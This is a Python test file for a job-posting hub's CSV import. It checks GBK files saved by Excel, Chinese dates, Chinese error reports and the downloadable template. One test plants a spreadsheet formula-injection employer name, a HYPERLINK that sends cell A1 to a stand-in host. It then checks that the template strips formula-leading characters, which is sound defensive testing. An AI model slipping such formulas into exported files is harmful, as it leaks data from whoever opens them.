"""The console's CSV import with files as Excel on a Chinese Windows saves them: GBK and CRLF, its
dates (2026/12/5, 2026年12月5日, serial numbers, with a time), every problem of every row reported
at once in Chinese with what would be right, and the downloadable template importing unchanged."""

import csv
import datetime as dt
import io
import re
import threading
from html import unescape
from pathlib import Path

import pytest
from sqlalchemy import func, select

from hub.postings.models import Posting
from tests.integration.test_console import GOOD_CODE, logged_in
from tests.support.console import csrf_of


@pytest.fixture
def db_url(sqlite_url):
    """SQLite only: nothing here differs between the databases, and make test has 10 minutes."""
    return sqlite_url


EXCEL = Path(__file__).parent / "excel" / "postings-zh-cn-gbk.csv"
HEAD = "岗位名称,工种,用工单位,招几人,最低工资,最高工资,开工日期,工作地点,联系人,联系电话"


def postings(hub, after: int = 0) -> dict[str, tuple]:
    """The postings after id `after` by title (the hub is seeded with some of the same titles)."""
    with hub.app.state.db.read() as s:
        rows = s.scalars(select(Posting).where(Posting.id > after))
        return {p.title: (p.work_start, p.work_end, p.pay_min_fen, p.employer.name) for p in rows}


def last_id(hub) -> int:
    with hub.app.state.db.read() as s:
        return s.scalar(select(func.max(Posting.id))) or 0


def upload(client, data: bytes):
    page = client.get("/staff/postings/import")
    return client.post(
        "/staff/postings/import", data={"csrf_token": csrf_of(page)}, files={"file": ("岗位.csv", data, "text/csv")}
    )


def report(answer) -> list[dict]:
    """The report's rows: line, column, what was written, what is wrong, what would be right."""
    body = re.search(r'<table class="report">.*?<tbody>(.*?)</tbody>', answer.text, re.S).group(1)
    rows = re.findall(r"<tr>(.*?)</tr>", body, re.S)
    keys = ("line", "column", "written", "message", "hint")
    return [dict(zip(keys, (unescape(c) for c in re.findall(r"<td[^>]*>(.*?)</td>", r, re.S)))) for r in rows]


def add_employer(client) -> None:
    page = client.get("/staff/employers")
    form = {
        "name": "湘江劳务有限公司",
        "credit_code": GOOD_CODE,
        "contact_person": "李经理",
        "contact_phone": "13800002222",
        "district": "青川区",
        "address": "",
        "csrf_token": csrf_of(page),
    }
    assert client.post("/staff/employers", data=form, follow_redirects=False).status_code == 303


def test_a_file_excel_saved_with_chinese_dates_imports(hub):
    raw = EXCEL.read_bytes()
    assert b"\r\n" in raw and not raw.startswith(b"\xef\xbb\xbf")  # as Excel's "CSV (逗号分隔)" writes it
    raw.decode("gbk")  # (GBK, not UTF-8: it would not decode as UTF-8)
    client = logged_in(hub)
    add_employer(client)
    before = last_id(hub)
    answer = upload(client, raw)
    assert answer.status_code == 200, report(answer)
    assert "已导入 4 个岗位" in answer.text  # the row of bare commas Excel leaves is no posting
    got = postings(hub, before)
    d = dt.date
    assert got["急招钢筋工"][:3] == (d(2026, 12, 5), d(2026, 12, 20), 35000)  # 2026/12/5
    assert got["电焊工（夜班）"][:3] == (d(2026, 12, 5), None, 120000)  # 2026年12月5日; "1,200"
    assert got["木工"][:2] == (d(2026, 12, 5), d(2026, 12, 16))  # Excel's serials 46361, 46372
    assert got["木工"][3] == "湘江劳务有限公司"  # named by its credit code
    assert got["砌砖工"][:2] == (d(2026, 12, 5), d(2026, 12, 9))  # with a time; 2026-12-9


def test_every_problem_of_every_row_at_once_in_chinese(hub):
    client = logged_in(hub)
    add_employer(client)
    before = len(postings(hub))
    rows = [
        HEAD + ",驿站,展示几天",
        "搬运工,钢筋,湘江劳务公司,4,200,260,2026/13/5,青川区物流园,李经理,1.38E+10,青川区零工市,7",
        "保洁,钢筋工,湘江劳务有限公司,多少,300,200,2026/12/5,青,李经理,13800002222,,abc",
        "保安,钢筋工,湘江劳务有限公司,2,300,320,2026/12/5,青川区物流园,李经理,13800002222,,",
    ]
    answer = upload(client, "\r\n".join(rows).encode("gb18030"))
    assert answer.status_code == 422 and 'id="import-errors"' in answer.text and 'role="alert"' in answer.text
    problems = report(answer)
    by = {(p["line"], p["column"]): p for p in problems}
    assert set(by) == {
        ("2", "工种"),
        ("2", "用工单位"),
        ("2", "开工日期"),
        ("2", "联系电话"),
        ("2", "驿站"),
        ("3", "招几人"),
        ("3", "最高工资"),  # a rule between fields, reported with the fields' own errors
        ("3", "工作地点"),
        ("3", "展示几天"),
    }, problems
    assert "您是不是要填：“钢筋工”" in by[("2", "工种")]["hint"]
    assert "“湘江劳务有限公司”" in by[("2", "用工单位")]["hint"]
    assert "“青川区零工市场”" in by[("2", "驿站")]["hint"]
    assert by[("2", "开工日期")]["written"] == "2026/13/5" and "2026年12月5日" in by[("2", "开工日期")]["hint"]
    assert "2 行里有 2 行要改" not in answer.text and "3 行里有 2 行要改，共 9 处" in answer.text
    assert len(postings(hub)) == before  # the right row was not imported either
    for p in problems:  # Chinese only: no English word in what is wrong or what would be right
        words = re.findall(r"[A-Za-z]{2,}", p["message"] + p["hint"])
        assert not words, p
    page = unescape(answer.text)
    assert "钢筋工" in page and "青川区零工市场" in page and "湘江劳务有限公司" in page  # the valid names


def test_the_downloaded_template_imports_unchanged(hub):
    client = logged_in(hub)
    template = client.get("/staff/postings/import.csv")
    assert template.status_code == 200 and template.content.startswith(b"\xef\xbb\xbf")
    with hub.app.state.db.read() as s:
        before = s.scalar(select(func.count()).select_from(Posting))
    answer = upload(client, template.content)
    assert answer.status_code == 200 and "已导入 1 个岗位" in answer.text, answer.text
    with hub.app.state.db.read() as s:
        assert s.scalar(select(func.count()).select_from(Posting)) == before + 1


def test_the_template_never_carries_a_name_a_spreadsheet_would_run(hub):
    """Any staff member may name an employer =HYPERLINK(…) (it sorts first): the template every
    staff member opens in Excel picks the first name that is plain text, and still imports."""
    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")'
    body = {"name": hostile, "contact_person": "李经理", "contact_phone": "13800002222", "district": "青川区"}
    hub.ok("POST", "/api/v1/employers", json=body)
    client = logged_in(hub)
    template = client.get("/staff/postings/import.csv")
    cells = [c for row in csv.reader(io.StringIO(template.content.decode("utf-8-sig"))) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    answer = upload(client, template.content)
    assert answer.status_code == 200 and "已导入 1 个岗位" in answer.text, answer.text


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # where the loop was held, either database
def test_the_hub_answers_others_while_a_long_file_is_imported(hub):
    """A file of many rows is checked and written off the event loop: the devices' long polls and
    the phone pages are answered meanwhile, not after the whole file (it held them for seconds)."""
    client = logged_in(hub)
    head, row = client.get("/staff/postings/import.csv").content.decode("utf-8-sig").splitlines()[:2]
    data = ("\r\n".join([head] + [row] * 600) + "\r\n").encode()
    done, meanwhile = threading.Event(), []

    def others() -> None:
        while not done.is_set():
            answer = hub.client.get("/healthz")
            if not done.is_set():
                meanwhile.append(answer.status_code)

    watcher = threading.Thread(target=others, daemon=True)
    watcher.start()
    answer = upload(client, data)
    done.set()
    watcher.join(120)  # only to catch a hang
    assert answer.status_code == 200 and "已导入 600 个岗位" in answer.text, report(answer)
    assert len(meanwhile) >= 5 and set(meanwhile) == {200}, meanwhile


def test_what_is_wrong_with_the_file_itself(hub):
    client = logged_in(hub)
    for raw, words in (
        (b"", "没有选文件"),
        ("岗位名称\r\n钢筋工\r\n".encode("gbk"), "缺少列：工种"),
        ((HEAD + "\r\n,,,,,,,,,\r\n").encode("gbk"), "文件里没有岗位"),
        (b"\x00\x01" * 10, "读不出这个文件"),
        (b"PK\x03\x04\x14\x00\x06\x00", "读不出这个工作簿"),  # a broken .xlsx (test_xlsx_import.py: whole ones)
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "旧版表格软件的工作簿"),  # an .xls
    ):
        answer = upload(client, raw)
        assert answer.status_code == 422 and words in answer.text, words
        assert not re.findall(r"[A-Za-z]{2,}", " ".join(p["message"] + p["hint"] for p in report(answer)))


def test_a_place_pasted_from_a_map_app_in_the_file(hub):
    client = logged_in(hub)
    add_employer(client)
    before = last_id(hub)
    row = "钢筋工,钢筋工,湘江劳务有限公司,4,200,260,2026/12/5,青川区物流园,李经理,13800002222"
    wrong = upload(client, f"{HEAD},坐标\r\n{row},北京\r\n".encode("gbk"))
    assert [(p["line"], p["column"]) for p in report(wrong)] == [("2", "坐标")]
    assert upload(client, f'{HEAD},坐标\r\n{row},"112.938814,28.228209"\r\n'.encode("gbk")).status_code == 200
    with hub.app.state.db.read() as s:
        p = s.scalar(select(Posting).where(Posting.id > before))
        assert (p.lat, p.lon) == (28.228209, 112.938814)
